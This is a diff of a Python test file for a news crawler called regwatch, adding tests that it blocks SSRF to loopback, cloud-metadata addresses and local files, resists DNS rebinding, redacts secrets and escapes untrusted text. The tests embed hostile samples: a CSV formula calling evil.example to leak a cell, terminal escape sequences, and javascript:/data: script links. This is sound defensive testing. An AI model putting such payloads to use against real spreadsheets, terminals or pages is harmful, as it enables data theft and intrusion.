@@ -1,11 +1,20 @@
 """Nothing from the web can take regwatch down: each bad source costs itself one failed run, nothing more."""
 
+import csv
+import html
+import io
 import json
 import resource
+import signal
+import sqlite3
+import subprocess
+import sys
 import time
+from pathlib import Path
 
-from support.news import art, publish
-from support.servers import Page
+from conftest import REGWATCH
+from support.news import art, article_page, publish
+from support.servers import Page, Site
 
 GOOD = "监管部门要求持牌消费金融公司将综合融资成本压降至20%以内，年化利率上限进一步下调，部分高定价产品暂停发放。"
 
@@ -104,16 +113,102 @@ secret = "${{RW_DT_SECRET}}"
     assert "TOPSECRETTOKEN" not in r.stderr + r.stdout and "SECwrong-and-secret" not in r.stderr + r.stdout
 
 
-def test_block_private_networks_keeps_page_links_off_loopback(tmp_path, site, rw):
-    publish(site, {"feed": [art("old", "银行发布年度报告", "某银行发布年度报告，全年营业收入同比增长5%，净利润保持稳定，零售业务占比提升。", 500)]})
-    cfg = tmp_path / "regwatch.toml"
-    cfg.write_text(f'[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"\nblock_private_networks = true\n'
-                   f'[[sources]]\nname = "feed"\nkind = "feed"\nurl = "{site.url}/feed.xml"\n', encoding="utf-8")
-    assert rw("run", "--once", "-c", cfg).returncode == 0
-    assert site.requests("/feed.xml")                 # the configured source URL itself is allowed
-    assert not site.requests("/a/")                    # a link found in it, to a loopback address, is not
-    row = json.loads(rw("sources", "--json", "-c", cfg).stdout.splitlines()[0])
-    assert "private address" in row["last_error"]
+def _rss(*links: str) -> Page:
+    items = "".join(f"<item><title>t{i}</title><link>{html.escape(l)}</link></item>" for i, l in enumerate(links))
+    return Page(f'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>{items}</channel></rss>'.encode(),
+                ctype="application/rss+xml")
+
+
+def _redirect_to(url: str):
+    def raw(h):
+        h.send_response(302)
+        h.send_header("Location", url)
+        h.send_header("Content-Length", "0")
+        h.end_headers()
+    return Page(b"", raw=raw)
+
+
+def _stored(db) -> dict[str, str]:
+    with sqlite3.connect(db) as c:
+        return {u: b for u, b in c.execute("SELECT url, body FROM articles")}
+
+
+def test_links_reach_only_their_origin_and_public_addresses(tmp_path, site, rw):
+    """A page's links, redirects and sitemap children never reach another loopback port (a fake cloud
+    metadata server), a name that resolves to loopback, or a file; the source's own origin still works."""
+    meta = Site()   # "169.254.169.254": another port on loopback
+    try:
+        meta.pages["/latest/meta-data/iam"] = Page("监管部门要求持牌消费金融公司压降综合融资成本，METADATA-TOKEN。".encode() * 10)
+        secret = tmp_path / "secret.txt"
+        secret.write_text("LOCAL-SECRET-FILE " * 20, encoding="utf-8")
+        port = site.url.rsplit(":", 1)[1]
+        site.pages["/a/own.html"] = article_page(art("own", "本站文章：利率上限新规", GOOD))
+        site.pages["/a/byname.html"] = article_page(art("byname", "经由名字访问", GOOD))
+        site.pages["/a/hop.html"] = _redirect_to(f"{meta.url}/latest/meta-data/hop")
+        site.pages["/feed.xml"] = _rss(f"{site.url}/a/own.html", f"{meta.url}/latest/meta-data/iam",
+                                       f"http://localhost:{port}/a/byname.html", f"file://{secret}", f"file:{secret}",
+                                       f"{site.url}/a/hop.html")
+        site.pages["/sitemap-index.xml"] = Page(
+            ('<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+             f"<sitemap><loc>{meta.url}/sitemap.xml</loc></sitemap></sitemapindex>").encode(), ctype="application/xml")
+        site.pages["/api/news"] = Page(json.dumps({"data": {"list": [
+            {"url": f"file://{secret}"}, {"url": f"{meta.url}/latest/meta-data/api"}]}}).encode(), ctype="application/json")
+        site.pages["/moved"] = _redirect_to(f"{meta.url}/list")
+        meta.pages["/sitemap.xml"] = Page(
+            ('<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+             f"<url><loc>{meta.url}/latest/meta-data/iam</loc></url></urlset>").encode(), ctype="application/xml")
+        meta.pages["/list"] = Page(f'<ul><li><a href="{meta.url}/latest/meta-data/iam">x</a></li></ul>'.encode())
+
+        def config(block: str) -> Path:
+            cfg = tmp_path / f"rw-{block or 'default'}.toml"
+            cfg.write_text(f"""[store]
+path = "{tmp_path}/rw-{block or 'default'}.db"
+[crawl]
+delay = "0s"
+{block}
+[[sources]]
+name = "feed"
+kind = "feed"
+url = "{site.url}/feed.xml"
+[[sources]]
+name = "index"
+kind = "sitemap"
+url = "{site.url}/sitemap-index.xml"
+[[sources]]
+name = "api"
+kind = "json"
+url = "{site.url}/api/news"
+items = "data.list"
+link = "url"
+[[sources]]
+name = "moved"
+kind = "listing"
+url = "{site.url}/moved"
+links = "ul a"
+""", encoding="utf-8")
+            return cfg
+
+        cfg = config("")     # the default: block_private_networks = true
+        r = rw("baseline", "-c", cfg)
+        assert r.returncode == 0, r.stderr[-2000:]
+        assert meta.log == []                                    # not one request, robots.txt included
+        stored = _stored(tmp_path / "rw-default.db")
+        assert f"{site.url}/a/own.html" in stored                # the source's own origin
+        assert not any("LOCAL-SECRET-FILE" in b or "METADATA-TOKEN" in b for b in stored.values())
+        assert not site.requests("/a/byname.html")               # `localhost` is not 127.0.0.1:port's origin
+        rows = {json.loads(l)["source"]: json.loads(l) for l in rw("sources", "--json", "-c", cfg).stdout.splitlines()}
+        assert "loopback address" in rows["feed"]["last_error"] and "refused" in rows["feed"]["last_error"]
+        assert rows["feed"]["errors"] == 3                       # the other port, the name, the redirect
+        for name in ("index", "api", "moved"):
+            assert "refused" in (rows[name]["last_error"] or ""), rows
+
+        cfg = config("block_private_networks = false")           # an intranet user's choice
+        assert rw("baseline", "-c", cfg).returncode == 0
+        assert meta.requests("/latest/meta-data/iam") and site.requests("/a/byname.html")
+        stored = _stored(tmp_path / "rw-block_private_networks = false.db")
+        assert not any("LOCAL-SECRET-FILE" in b for b in stored.values())   # never a file
+    finally:
+        meta.stop()
 
 
 def test_no_listener_and_timeouts_well_under_scrapys_default():
@@ -124,3 +219,286 @@ def test_no_listener_and_timeouts_well_under_scrapys_default():
     assert s["REMOTE_CONTROL_ENABLED"] is False and s["TELNETCONSOLE_ENABLED"] is False
     assert s["DOWNLOAD_TIMEOUT"] <= 30 and s["DOWNLOAD_MAXSIZE"] == 10 * 1024 * 1024 and s["REDIRECT_MAX_TIMES"] <= 5
     assert s["ROBOTSTXT_OBEY"] is True
+
+
+def test_which_addresses_are_refused():
+    from regwatch.crawler.netguard import refusal
+
+    for ip in ("127.0.0.1", "127.5.5.5", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1",
+               "100.100.100.200", "0.0.0.0", "::1", "fd00::1", "fe80::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254",
+               "224.0.0.1", "not-an-ip"):
+        assert refusal(ip), ip
+    for ip in ("93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946", "::ffff:93.184.216.34"):
+        assert refusal(ip) is None, ip
+
+
+def test_the_check_uses_the_answer_the_connection_uses():
+    """DNS rebinding: a name that answers a public address once and 127.0.0.1 next. Each connection is
+    checked on its own resolution, so the loopback answer never reaches a connection."""
+    from twisted.internet.address import IPv4Address
+
+    from regwatch.crawler import netguard
+
+    answers = iter(["93.184.216.34", "127.0.0.1"])
+
+    class Rebinding:   # a DNS server cannot run offline here: its answers, as the reactor's resolver gives them
+        def resolveHostName(self, receiver, host, port=0, types=None, semantics="TCP"):
+            receiver.resolutionBegan(None)
+            receiver.addressResolved(IPv4Address("TCP", next(answers), port))
+            receiver.resolutionComplete()
+
+    class Endpoint:    # what twisted's HostnameEndpoint collects before connecting
+        def __init__(self):
+            self.addresses, self.done = [], False
+
+        def resolutionBegan(self, r):
+            pass
+
+        def addressResolved(self, a):
+            self.addresses.append(a.host)
+
+        def resolutionComplete(self):
+            self.done = True
+
+    resolver = netguard.GuardedNameResolver(Rebinding())
+    token = netguard._DECISION.set(netguard.PUBLIC)
+    try:
+        first, second = Endpoint(), Endpoint()
+        resolver.resolveHostName(first, "rebind.example", 443)
+        resolver.resolveHostName(second, "rebind.example", 443)
+    finally:
+        netguard._DECISION.reset(token)
+    assert first.addresses == ["93.184.216.34"]
+    assert second.done and second.addresses == []          # nothing to connect to
+    assert "loopback" in netguard._REFUSED[("rebind.example", 443)]
+
+
+def test_a_secret_in_a_source_url_is_never_shown_or_stored(tmp_path, site, receiver, rw):
+    receiver.routes["gw"] = {"type": "webhook"}
+    cfg = tmp_path / "regwatch.toml"
+    cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"
+[[sources]]\nname = "api"\nkind = "json"\nurl = "{site.url}/v1/${{RW_API_KEY}}/news?page=1"\nitems = "data"\nlink = "url"
+[[channels]]\nname = "gw"\ntype = "webhook"\nurl = "{receiver.url}/gw"
+[alerts]\nfailing_after = 1\nhealth_channels = ["gw"]\nonce_wait = "5s"
+""", encoding="utf-8")
+    env = {"RW_API_KEY": "Zq8PRIVATEapikey"}
+    r = rw("run", "--once", "-c", cfg, env=env)             # the API answers 404: an error naming its URL
+    assert r.returncode == 0, r.stderr[-2000:]
+    shown = [r.stdout + r.stderr]
+    shown.append(rw("sources", "-c", cfg, env=env).stdout)
+    shown.append(rw("sources", "--json", "-c", cfg, env=env).stdout)
+    assert rw("report", "--out", tmp_path / "r.html", "-c", cfg, env=env).returncode == 0
+    shown.append((tmp_path / "r.html").read_text(encoding="utf-8"))
+    with sqlite3.connect(tmp_path / "rw.db") as c:
+        shown += [m for (m,) in c.execute("SELECT message FROM source_runs")]
+        shown += [m for (m,) in c.execute("SELECT last_error FROM source_state")]
+        shown += [p for (p,) in c.execute("SELECT payload FROM alerts")]
+    shown += [json.dumps(m["body"], ensure_ascii=False) for m in receiver.messages]
+    assert any("/v1/***/news" in s for s in shown)               # the error is there, its secret is not
+    assert len(receiver.messages) == 1                           # the health alert went out
+    assert not any("Zq8PRIVATEapikey" in s for s in shown)
+
+
+ESC_TITLE = "\x1b]0;owned\x07\x1b[2J\x1b[31m利率上限通知\u202e"
+
+
+def test_untrusted_text_in_the_terminal_a_spreadsheet_and_the_report(tmp_path, site, receiver, rw):
+    receiver.routes["gw"] = {"type": "webhook"}
+
+    def api(items):
+        site.pages["/api/news"] = Page(json.dumps({"data": items}, ensure_ascii=False).encode(), ctype="application/json")
+
+    body = f"<p>{GOOD}</p>"
+    api([{"url": f"{site.url}/a/0", "title": "旧闻", "body": "<p>银行发布年度报告，全年营业收入同比增长。</p>"}])
+    cfg = tmp_path / "regwatch.toml"
+    cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"
+[[sources]]\nname = "api"\nkind = "json"\nurl = "{site.url}/api/news"\nitems = "data"\nlink = "url"\ntitle = "title"\nbody = "body"
+[[channels]]\nname = "gw"\ntype = "webhook"\nurl = "{receiver.url}/gw"
+[[subscriptions]]\nname = "caps"\ntopics = ["rate_cap"]\nchannels = ["gw"]
+[alerts]\nonce_wait = "5s"
+""", encoding="utf-8")
+    assert rw("baseline", "-c", cfg).returncode == 0
+    api([{"url": f"{site.url}/a/1", "title": ESC_TITLE, "body": body},
+         {"url": f"{site.url}/a/2", "title": '=HYPERLINK("http://evil.example/?"&A1,"利率上限")', "body": body + "<p>二</p>"}])
+    assert rw("run", "--once", "-c", cfg).returncode == 0
+
+    for args in (["search", "利率"], ["alerts"], ["sources"]):
+        out = rw(*args, "-c", cfg)
+        assert "\x1b" not in out.stdout + out.stderr and "\u202e" not in out.stdout, args
+    assert "\\x1b]0;owned\\x07" in rw("search", "利率", "-c", cfg).stdout     # shown, escaped
+
+    rows = list(csv.DictReader(io.StringIO(rw("export", "--format", "csv", "-c", cfg).stdout)))
+    titles = {r["title"] for r in rows}
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"利率上限\")" in titles
+    assert not any(t.startswith(("=", "+", "-", "@")) for r in rows for t in r.values())
+
+    page = tmp_path / "page.html"
+    page.write_bytes(f"<html><head><title>{ESC_TITLE}</title></head><body><p>{GOOD}</p></body></html>".encode())
+    out = rw("extract", page)
+    assert out.returncode == 0 and "\u202e" not in out.stdout and "\\u202e" in out.stdout   # a bidi override, escaped
+
+
+def test_the_report_links_only_web_urls(tmp_path):
+    from datetime import datetime, timedelta, timezone
+
+    from regwatch.pipeline.report import render
+    from regwatch.pipeline.store import ArticleRecord, Store
+
+    store = Store(tmp_path / "rw.db")
+    for url in ("javascript:alert(document.domain)//", "data:text/html,<script>alert(1)</script>", "https://ok.example/a"):
+        aid = store.insert_article(ArticleRecord(url=url, source="s", title=f"t {url[:4]}", body="b", lang="zh",
+                                                 published_at=None))
+        store.new_story(aid, "t", None)
+    page = render(store, datetime.now(timezone.utc) - timedelta(days=1))
+    assert 'href="https://ok.example/a"' in page
+    assert "javascript:" not in page and 'href="data:' not in page
+
+
+def _slow_page(n: int = 50_000) -> Page:
+    """An article that takes trafilatura a long time: a 2 MB table (~17 s on this machine for 50,000 rows)."""
+    rows = "<tr><td>利率上限</td><td>消费金融</td></tr>" * n
+    return Page(f"<html><body><table>{rows}</table><p>{GOOD}</p></body></html>".encode())
+
+
+def test_the_daemon_stops_within_30s_whatever_it_is_doing(tmp_path, site):
+    """SIGTERM while one source trickles its answer (a 10-minute timeout) and an extraction would run for
+    minutes: the daemon is gone within 30 s."""
+    site.pages["/slow"] = Page(b"", raw=trickle)
+    site.pages["/a/heavy.html"] = _slow_page(180_000)
+    site.pages["/feed.xml"] = _rss(f"{site.url}/a/heavy.html")
+    cfg = tmp_path / "regwatch.toml"
+    cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"\ntimeout = "10m"\nextract_timeout = "10m"
+[[sources]]\nname = "slow"\nkind = "listing"\nurl = "{site.url}/slow"\nlinks = "a"
+[[sources]]\nname = "feed"\nkind = "feed"\nurl = "{site.url}/feed.xml"
+""", encoding="utf-8")
+    p = subprocess.Popen([REGWATCH, "run", "-c", str(cfg)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        for _ in range(300):
+            if site.requests("/slow") and site.requests("/a/heavy.html"):
+                break
+            time.sleep(0.1)
+        assert site.requests("/slow") and site.requests("/a/heavy.html")
+        time.sleep(3)        # the heavy page is in extraction now
+        p.send_signal(signal.SIGTERM)
+        out, err = p.communicate(timeout=30)
+    finally:
+        if p.poll() is None:
+            p.kill()
+            p.communicate()
+    assert p.returncode == 0, err[-2000:]
+    assert "Traceback" not in err
+
+
+def test_an_extraction_over_its_limits_is_an_error_of_its_source(tmp_path, site, rw):
+    site.pages["/a/ok.html"] = article_page(art("ok", "利率上限新规", GOOD))
+    site.pages["/a/slow.html"] = _slow_page(50_000)       # ~17 s of trafilatura
+    site.pages["/a/huge.html"] = _slow_page(180_000)      # 9 MB: well over 256 MB of memory in extraction
+    site.pages["/feed.xml"] = _rss(f"{site.url}/a/slow.html", f"{site.url}/a/huge.html", f"{site.url}/a/ok.html")
+
+    def run(limits: str) -> dict:
+        cfg = tmp_path / "regwatch.toml"
+        cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"\n{limits}
+[[sources]]\nname = "feed"\nkind = "feed"\nurl = "{site.url}/feed.xml"
+""", encoding="utf-8")
+        r = rw("baseline", "-c", cfg, timeout=170)
+        assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
+        return json.loads(rw("sources", "--json", "-c", cfg).stdout)
+
+    row = run('extract_timeout = "2s"')
+    assert f"{site.url}/a/ok.html" in _stored(tmp_path / "rw.db")     # the rest of the source goes on
+    assert row["errors"] == 2 and "slow.html: extraction took longer than 2 s" in row["last_error"]
+    row = run('extract_timeout = "10m"\nextract_memory = "256MB"')
+    assert "huge.html: extraction needed more memory than its limit" in row["last_error"]
+
+
+def test_a_killed_extraction_worker_is_replaced():
+    """The OOM killer takes a worker mid-job: that job is tried again on a new worker, and every later
+    job still works (a broken pool used to fail every later article)."""
+    import asyncio
+    import os
+
+    from regwatch.crawler.run import Extractor
+
+    page = article_page(art("ok", "利率上限新规", GOOD)).body
+
+    async def main():
+        ex = Extractor(workers=1, timeout=120)
+        try:
+            first = await ex({"body": page, "url": "http://x/1"})
+            job = asyncio.ensure_future(ex({"body": _slow_page(20_000).body, "url": "http://x/2"}))
+            await asyncio.sleep(1)
+            (worker,) = ex._pool._processes.values()
+            os.kill(worker.pid, signal.SIGKILL)
+            killed = await job
+            later = [await ex({"body": page, "url": f"http://x/{n}"}) for n in range(3, 6)]
+            return first, killed, later
+        finally:
+            ex.close()
+
+    first, killed, later = asyncio.run(main())
+    assert first["ok"] and killed["ok"] and all(r["ok"] for r in later)
+
+
+def test_a_big_feed_is_read_off_the_event_loop():
+    """A 10 MB feed takes feedparser seconds: the loop (downloads, alerts, SIGTERM) keeps running meanwhile."""
+    import asyncio
+
+    from regwatch.crawler.run import Extractor
+    from regwatch.service.config import SourceConfig
+
+    items = "".join(f"<item><title>第{i}条 {GOOD}</title><link>http://127.0.0.1:9/a/{i}.html</link>"
+                    f"<description>{GOOD * 4}</description></item>" for i in range(12_000))
+    body = f'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>{items}</channel></rss>'.encode()
+    assert len(body) > 9_000_000
+    source = SourceConfig(name="big", kind="feed", url="http://127.0.0.1:9/feed.xml")
+
+    async def main():
+        ex = Extractor(workers=1, timeout=120)
+        ticks = 0
+        try:
+            parse = asyncio.ensure_future(ex.read_list(source, body, source.url, "application/rss+xml"))
+            while not parse.done():
+                ticks += 1
+                await asyncio.sleep(0.05)
+            return parse.result(), ticks
+        finally:
+            ex.close()
+
+    entries, ticks = asyncio.run(main())
+    assert len(entries) == 12_000 and entries[5].url == "http://127.0.0.1:9/a/5.html"
+    assert ticks > 10          # parsed on the loop, the loop would not have turned once
+
+
+def test_no_page_can_pin_a_core(tmp_path, site, rw):
+    """Inputs that made a pattern backtrack for hours (exponential or quadratic) are read at once."""
+    site.pages["/a/c.html"] = article_page(art("c", "利率上限新规", GOOD))
+    site.pages["/comments.xml"] = Page(b"<!---->" * 40 + _rss(f"{site.url}/a/c.html").body, ctype="application/rss+xml")
+    site.pages["/gate"] = Page(b"<html><body>please enable javascript" + b"<script>x" * 20_000)   # 180 KB
+    site.pages["/jsonp"] = Page(b"cb()" + b" " * 300_000 + b"x", ctype="application/javascript")
+    site.pages["/brackets"] = Page(b"<" * 2_000_000 + b'<ul><li><a href="/a/c.html">x</a></li></ul>', ctype="text/html")
+    cfg = tmp_path / "regwatch.toml"
+    cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"
+[[sources]]\nname = "comments"\nkind = "feed"\nurl = "{site.url}/comments.xml"
+[[sources]]\nname = "gate"\nkind = "listing"\nurl = "{site.url}/gate"\nlinks = "ul a"
+[[sources]]\nname = "jsonp"\nkind = "json"\nurl = "{site.url}/jsonp"\nitems = "data"\nlink = "url"
+[[sources]]\nname = "brackets"\nkind = "listing"\nurl = "{site.url}/brackets"\nlinks = "ul a"
+""", encoding="utf-8")
+    r = rw("baseline", "-c", cfg, timeout=120)
+    assert r.returncode == 0, r.stderr[-2000:]
+    rows = {json.loads(l)["source"]: json.loads(l) for l in rw("sources", "--json", "-c", cfg).stdout.splitlines()}
+    assert rows["comments"]["state"] == "ok" and rows["comments"]["articles"] == 1
+    assert rows["gate"]["state"] == "blocked"
+    assert "not valid JSON" in rows["jsonp"]["last_error"]
+    assert rows["brackets"]["found"] == 1
+
+    # text that reaches story detection and extraction (titles, bodies, PDFs' text)
+    code = ("from regwatch.pipeline.normalize import strip_boilerplate\n"
+            "from regwatch.pipeline.stories import _strong_facts, clean_title\n"
+            "from regwatch.pipeline.extract import pick_title\n"
+            "import lxml.html\n"
+            "strip_boilerplate('\\n' * 200_000); strip_boilerplate(' ' * 200_000 + 'x')\n"
+            "clean_title(' ' * 200_000 + 'x')\n"
+            "pick_title(lxml.html.fromstring('<html><head><title>' + ' \\t' * 100_000 + 'x</title></head></html>'))\n"
+            "_strong_facts('1' * 200_000)\n")
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0, done.stderr[-2000:]
